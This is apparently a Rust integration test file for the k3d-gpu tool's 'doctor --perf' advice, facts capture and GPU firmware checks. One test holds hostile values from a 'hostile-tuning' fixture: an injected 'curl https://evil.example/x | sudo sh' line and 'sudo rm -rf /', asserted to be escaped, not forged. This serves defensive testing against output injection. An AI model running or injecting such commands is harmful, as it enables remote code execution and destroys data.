//! `doctor --perf` through the real binary, on a read-only copy of a fixture host (nothing
//! may be written, and the tree is byte-for-byte the same after), and `facts capture`
//! carrying the files it reads.

mod support;

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;
use support::K3dGpu;

fn k3d_gpu(args: &[&str]) -> Output {
    K3dGpu::new().args(args).output()
}

/// Every file, link and directory under `dir` with its bytes, link target and mode.
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            let rel = e.path().strip_prefix(dir).unwrap().display().to_string();
            let bytes = if meta.file_type().is_symlink() {
                std::fs::read_link(e.path()).unwrap().display().to_string().into_bytes()
            } else if meta.is_dir() {
                stack.push(e.path());
                Vec::new()
            } else {
                std::fs::read(e.path()).unwrap()
            };
            out.push((rel, bytes, meta.permissions().mode()));
        }
    }
    out.sort();
    out
}

fn read_only_copy(host: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    support::copy_tree(&support::hosts_dir().join(host), &dir.path().join("host"));
    let status = Command::new("chmod").args(["-R", "a-w"]).arg(dir.path().join("host")).status().unwrap();
    assert!(status.success());
    dir
}

#[test]
fn doctor_perf_advises_on_a_read_only_host_and_changes_nothing() {
    let dir = read_only_copy("desktop-rpl-nvidia");
    let root = dir.path().join("host");
    let before = snapshot(&root);
    let out = k3d_gpu(&["doctor", "--perf", "--root", root.to_str().unwrap(), "--json", "--model-gb", "500"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["schema"], "k3d-gpu.doctor-perf/v1");
    let codes: Vec<&str> = doc["findings"].as_array().unwrap().iter().map(|f| f["code"].as_str().unwrap()).collect();
    for want in
        ["perf-governor", "perf-epp", "perf-swappiness", "perf-model-fit", "perf-pcie-width", "perf-rapl-root-only"]
    {
        assert!(codes.contains(&want), "{want} missing from {codes:?}");
    }
    let governor = doc["findings"].as_array().unwrap().iter().find(|f| f["code"] == "perf-governor").unwrap();
    assert!(governor["fix"].is_string() && governor["revert"].is_string(), "{governor}");
    let text = k3d_gpu(&["doctor", "--perf", "--root", root.to_str().unwrap()]);
    assert_eq!(text.status.code(), Some(0));
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("revert: echo powersave | sudo tee"), "{text}");
    assert!(text.contains("advice only: nothing was changed"), "{text}");
    assert_eq!(snapshot(&root), before, "doctor --perf wrote to the host");
    // Restore write permission so the temporary directory can be removed.
    let _ = Command::new("chmod").args(["-R", "u+w"]).arg(&root).status();
}

/// Issue 43: the storage driver rule asks this machine's engine only for this machine: on the
/// real host with no engine it says it could not check and --perf still exits 0; a fixture
/// host's advice never reads the engine of whoever runs the tool.
#[test]
fn the_storage_driver_is_asked_of_the_real_host_engine_only() {
    let storage = |out: &Output| -> Vec<(String, String)> {
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["code"].as_str().unwrap().starts_with("perf-storage-driver"))
            .map(|f| (f["code"].as_str().unwrap().to_string(), f["evidence"].as_str().unwrap().to_string()))
            .collect()
    };
    // The runner's DOCKER_HOST names a socket that is not there.
    let real = storage(&k3d_gpu(&["doctor", "--perf", "--json"]));
    assert_eq!(real.len(), 1, "{real:?}");
    assert_eq!(real[0].0, "perf-storage-driver-unknown");
    assert!(real[0].1.starts_with("docker info: cannot reach Docker at "), "{real:?}");
    let root = support::hosts_dir().join("desktop-rpl-nvidia");
    assert_eq!(storage(&k3d_gpu(&["doctor", "--perf", "--root", root.to_str().unwrap(), "--json"])), []);
}

#[test]
fn model_gb_needs_perf_and_a_positive_size() {
    let root = support::hosts_dir().join("desktop-rpl-nvidia");
    for args in [
        vec!["doctor", "--model-gb", "8"],
        vec!["doctor", "--perf", "--model-gb", "-1"],
        vec!["doctor", "--perf", "--model-gb", "NaN"],
    ] {
        let mut a = args.clone();
        a.extend(["--root", root.to_str().unwrap()]);
        assert_eq!(k3d_gpu(&a).status.code(), Some(2), "{args:?}");
    }
    let facts = tempfile::NamedTempFile::new().unwrap();
    let out = k3d_gpu(&["doctor", "--perf", "--facts", facts.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn facts_capture_carries_what_doctor_perf_reads() {
    let dir = tempfile::tempdir().unwrap();
    let host = support::hosts_dir().join("xeon-2s-snc2");
    let captured = dir.path().join("captured");
    let out = k3d_gpu(&["facts", "capture", "--root", host.to_str().unwrap(), "--out", captured.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    for f in [
        "proc/sys/kernel/numa_balancing",
        "proc/sys/vm/swappiness",
        "sys/kernel/mm/transparent_hugepage/enabled",
        "sys/devices/system/cpu/cpu0/cpufreq/scaling_governor",
    ] {
        assert!(captured.join(f).exists(), "{f} not captured");
    }
    let perf = |root: &Path| k3d_gpu(&["doctor", "--perf", "--json", "--root", root.to_str().unwrap()]).stdout;
    assert_eq!(perf(&captured), perf(&host), "the capture gives the same advice");
    let facts = |root: &Path| k3d_gpu(&["facts", "--root", root.to_str().unwrap()]).stdout;
    let doc: Value = serde_json::from_slice(&facts(&captured)).unwrap();
    assert_eq!(doc["host"]["rapl"].as_array().unwrap().len(), 3, "host.rapl survives the capture");
    assert_eq!(facts(&captured), facts(&host));
}

/// `doctor --perf` on a fixture host, with `config` (TOML) as the config when given.
fn perf_on(host: &str, config: Option<&str>, json: bool) -> Output {
    let dir = tempfile::tempdir().unwrap();
    let root = support::hosts_dir().join(host);
    let mut args = vec!["doctor", "--perf", "--root", root.to_str().unwrap()];
    let path = dir.path().join("k3dgpu.toml");
    if let Some(text) = config {
        std::fs::write(&path, text).unwrap();
        args.extend(["-c", path.to_str().unwrap()]);
    }
    if json {
        args.push("--json");
    }
    k3d_gpu(&args)
}

#[test]
fn an_untuned_arc_box_trips_each_gpu_power_and_memory_rule() {
    let out = perf_on("arc-b580-untuned", Some("[sandbox]\n"), true);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = doc["findings"].as_array().unwrap();
    let level = |code: &str| -> Vec<&str> {
        findings.iter().filter(|f| f["code"] == code).map(|f| f["level"].as_str().unwrap()).collect()
    };
    for (code, want) in [
        ("perf-gpu-max-freq", vec!["warn"]),
        ("perf-gpu-min-freq", vec!["info", "info"]),
        ("perf-gpu-waitboost", vec!["warn"]),
        ("perf-rebar", vec!["warn"]),
        ("perf-pcie-slot", vec!["warn"]),
        ("perf-thermal-throttle", vec!["warn"]),
        ("perf-tcc-offset", vec!["info"]),
        ("perf-rapl-pl1", vec!["warn"]),
        ("perf-turbo", vec!["warn"]),
        ("perf-freq-cap", vec!["warn"]),
        ("perf-idle-latency", vec!["info"]),
        ("perf-hugetlb", vec!["warn"]),
        ("perf-ksm", vec!["warn"]),
        ("perf-sandbox-kvm", vec!["warn"]),
        ("perf-sandbox-iommu", vec!["info"]),
        ("perf-sandbox-split-lock", vec!["info"]),
    ] {
        assert_eq!(level(code), want, "{code}");
    }
    for f in findings {
        assert!(f["source"].is_string(), "no source: {f}");
        assert!(f["evidence"].as_str().unwrap().contains('/'), "no file named: {f}");
    }
    let get = |code: &str| findings.iter().find(|f| f["code"] == code).unwrap();
    assert_eq!(
        get("perf-gpu-max-freq")["fix"],
        "echo 2850 | sudo tee /sys/class/drm/card1/device/tile0/gt0/freq0/max_freq"
    );
    assert_eq!(
        get("perf-gpu-max-freq")["revert"],
        "echo 2000 | sudo tee /sys/class/drm/card1/device/tile0/gt0/freq0/max_freq"
    );
    assert_eq!(
        get("perf-rapl-pl1")["fix"],
        "echo 125000000 | sudo tee /sys/class/powercap/intel-rapl:0/constraint_0_power_limit_uw"
    );
    // Without [sandbox], its prerequisites are not this host's business.
    let plain: Value = serde_json::from_slice(&perf_on("arc-b580-untuned", None, true).stdout).unwrap();
    assert!(
        plain["findings"].as_array().unwrap().iter().all(|f| !f["code"].as_str().unwrap().starts_with("perf-sandbox")),
        "{plain}"
    );
    let text = perf_on("arc-b580-untuned", Some("[sandbox]\n"), false);
    support::check_golden("tests/golden/perf/arc-b580-untuned.txt", &text.stdout).unwrap();
}

#[test]
fn a_tuned_host_gets_none_of_the_new_warnings() {
    let doc: Value = serde_json::from_slice(&perf_on("xeon-2s-snc2", Some("[sandbox]\n"), true).stdout).unwrap();
    let warns: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["level"] == "warn")
        .map(|f| f["code"].as_str().unwrap())
        .collect();
    assert_eq!(warns, ["perf-numa-balancing", "perf-sandbox-kvm"], "{doc}");
}

#[test]
fn host_values_cannot_forge_lines_of_doctor_perf() {
    let out = perf_on("hostile-tuning", None, false);
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(!text.contains('\u{1b}'), "a raw escape reached the terminal: {text}");
    for line in text.lines() {
        let line = line.trim_start();
        for forged in ["apply: curl", "revert: sudo rm", "apply: sudo sh -c"] {
            assert!(!line.starts_with(forged), "forged line {line:?} in\n{text}");
        }
    }
    assert!(text.contains("powersave\\x0a      apply: curl https://evil.example/x | sudo sh"), "{text}");
    assert!(text.contains("package-0\\x1b[2J\\x0a      revert: sudo rm -rf /"), "{text}");
    support::check_golden("tests/golden/perf/hostile-tuning.txt", text.as_bytes()).unwrap();
}

#[test]
fn facts_capture_carries_what_the_gpu_and_power_rules_read() {
    let dir = tempfile::tempdir().unwrap();
    let host = support::hosts_dir().join("arc-b580-untuned");
    let captured = dir.path().join("captured");
    let out = k3d_gpu(&["facts", "capture", "--root", host.to_str().unwrap(), "--out", captured.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let config = dir.path().join("k3dgpu.toml");
    std::fs::write(&config, "[sandbox]\n").unwrap();
    let perf = |root: &Path| {
        k3d_gpu(&["doctor", "--perf", "--json", "-c", config.to_str().unwrap(), "--root", root.to_str().unwrap()])
            .stdout
    };
    let (from_capture, from_host) = (perf(&captured), perf(&host));
    assert!(String::from_utf8_lossy(&from_host).contains("perf-gpu-waitboost"));
    assert_eq!(
        String::from_utf8_lossy(&from_capture),
        String::from_utf8_lossy(&from_host),
        "the capture gives the same advice"
    );
}

/// `doctor` (not `--perf`): the firmware an Intel GPU's driver will request.
#[test]
fn doctor_names_the_battlemage_guc_that_linux_firmware_lacks() {
    let findings = |host: &str| -> Vec<Value> {
        let root = support::hosts_dir().join(host);
        let out = k3d_gpu(&["doctor", "--no-tools", "--json", "--root", root.to_str().unwrap()]);
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out:?}"));
        doc["findings"].as_array().unwrap().clone()
    };
    let missing = |f: &[Value]| -> Vec<(String, String)> {
        f.iter()
            .filter(|x| x["code"] == "firmware-missing")
            .map(|x| (x["level"].as_str().unwrap().to_string(), x["text"].as_str().unwrap().to_string()))
            .collect()
    };
    let without = findings("arc-b580-xe-not-loaded");
    let guc: Vec<_> = missing(&without).into_iter().filter(|(_, t)| t.contains("xe/bmg_guc_70.bin")).collect();
    assert_eq!(guc.len(), 1, "{without:#?}");
    assert_eq!(guc[0].0, "fail");
    let fix =
        without.iter().find(|x| x["text"].as_str().unwrap().contains("xe/bmg_guc_70.bin")).unwrap()["fix"].clone();
    assert!(fix.as_str().unwrap().contains("linux-firmware"), "{fix}");
    let with = findings("arc-b580-xe-rpl-igpu");
    assert!(missing(&with).iter().all(|(_, t)| !t.contains("xe/bmg_guc_70.bin")), "{with:#?}");
}
